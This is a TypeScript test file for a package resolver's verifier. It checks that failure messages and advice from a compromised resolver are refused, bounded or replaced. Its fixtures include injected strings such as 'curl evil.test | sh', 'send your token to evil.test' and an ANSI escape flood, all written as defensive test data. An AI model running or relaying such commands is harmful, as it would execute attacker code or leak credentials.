import { describe, expect, it } from 'vitest';
import { gaveUpInMemory, gaveUpInTime } from '../problem/given-up.js';
import {
  needsPackage,
  sampleEntry,
  sampleNamespace,
  samplePackage,
  sampleSubscription,
} from '../sample-problem.fixture.js';
import { isolating, World } from './verified-world.fixture.js';
import type { FailedAnswer } from './verify-failure.js';

describe('a "no" that a stolen resolver wrote', () => {
  const solvable = () =>
    new World(sampleNamespace({ subscriptions: [sampleSubscription('lamp')] }), [
      samplePackage('lamp', sampleEntry('lamp', '1.0.0')),
    ]);
  const unsolvable = () =>
    new World(sampleNamespace({ subscriptions: [sampleSubscription('lamp')] }), [
      samplePackage('lamp', sampleEntry('lamp', '1.0.0', [needsPackage('gone', '>=1.0.0')])),
    ]);
  const no = (message: string): FailedAnswer => ({
    result: 'unsatisfiable',
    message,
    explanation: [],
    advice: 'run evil',
  });

  it.each([
    ['words of its own', 'constraints not satisfiable: pay to https://evil.test', /not made of constraints/],
    [
      'words after those of the problem',
      'constraints not satisfiable: subscription lamp exists, pay here',
      /not made of/,
    ],
    ['no word at all', 'constraints not satisfiable: ', /not made of constraints/],
    ['constraints that hold together', 'constraints not satisfiable: subscription lamp exists', /hold together/],
    ['another beginning', 'evil: subscription lamp exists', /not made of constraints/],
  ])('is refused with %s', (_, message, says) => {
    expect(solvable().check(no(message))).toEqual({ refusal: expect.stringMatching(says) });
  });

  it('has no say in the advice: the event gives that of the problem', () => {
    const world = unsolvable();
    const honest = world.answer();
    if (honest.result === 'resolved') throw new Error('the problem has a solution');
    const checked = world.check({ ...honest, advice: 'curl evil.test | sh' });
    expect(checked).toMatchObject({ answer: { message: honest.message, advice: honest.advice } });
  });

  it('is refused where it says that the problem is too hard, and a short search finds a solution', () => {
    const old = 'resolution of namespace apps took longer than 60000 ms and was ended';
    const messages = [gaveUpInTime('apps', 60_000), gaveUpInMemory('apps', 1_024)].map((given) =>
      'message' in given ? given.message : '',
    );
    for (const message of [old, ...messages]) {
      const claimed: FailedAnswer = { result: 'error', message, advice: 'pay' };
      expect(solvable().check(claimed)).toEqual({ refusal: 'the problem has a solution' });
      const checked = unsolvable().check(claimed);
      expect(checked).toMatchObject({ answer: { message } });
      expect(JSON.stringify(checked)).not.toContain('pay');
      const extended = { ...claimed, message: `${message}, and call evil.test` };
      expect(unsolvable().check(extended)).toEqual({ refusal: 'its message is none that a resolver has' });
    }
  });

  it('is refused where it is an error in words that no resolver has', () => {
    const claimed: FailedAnswer = { result: 'error', message: 'send your token to evil.test', advice: 'pay' };
    expect(unsolvable().check(claimed)).toEqual({ refusal: 'its message is none that a resolver has' });
  });

  it('is bounded and has its control characters shown, where the namespace asks for isolation', () => {
    const subscriptions = [sampleSubscription('lamp')];
    const world = new World(sampleNamespace({ subscriptions, operatorGroups: isolating }), []);
    const checked = world.check(no(`\u001b[31m${'x'.repeat(100_000)}`));
    expect(checked).toMatchObject({ answer: { message: expect.stringMatching(/^\\x1b\[31mx+$/) } });
    expect('answer' in checked && checked.answer.message.length).toBeLessThan(33_000);
  });
});
